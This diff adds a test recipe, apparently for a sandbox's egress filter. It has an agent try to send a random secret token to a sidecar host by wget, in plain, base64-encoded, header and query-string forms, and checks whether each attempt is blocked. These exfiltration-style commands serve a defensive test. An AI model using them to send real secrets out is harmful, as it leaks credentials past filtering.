@@ -1,0 +1,30 @@
+-- An agent that tells the one host that it may reach a secret: as it is, in base 64, and split.
+local launch = require "std.launch"
+
+return recipe(function(plan)
+  local token = secret.format("%s-%s", secret.random(12), secret.random(12))
+  local upstream
+  plan.image.source = "bottler-test:busybox"
+  plan.agent.command = {
+    "/bin/sh",
+    "-c",
+    [[
+      tell() { what=$1; shift; wget -q -O - "$@" > /dev/null 2>&1 && echo "$what passed" || echo "$what refused"; }
+      tell plain --post-data=hello http://upstream:8080/
+      tell body --post-data="x$TOKEN" http://upstream:8080/
+      tell base64 --post-data="$(echo "x$TOKEN" | base64 -w 0)" http://upstream:8080/
+      tell header --header="X-Note: $TOKEN" http://upstream:8080/
+      tell query "http://upstream:8080/?$TOKEN"
+    ]],
+  }
+  local agent = launch(plan, {
+    after = {
+      outside = function(outside) upstream = sidecar_start { name = "upstream", role = "upstream", network = outside } end,
+    },
+    before = {
+      egress = function(options) options.sidecars = { upstream = upstream } end,
+      provision = function(options) options.env = { TOKEN = token } end,
+    },
+  })
+  return agent
+end)
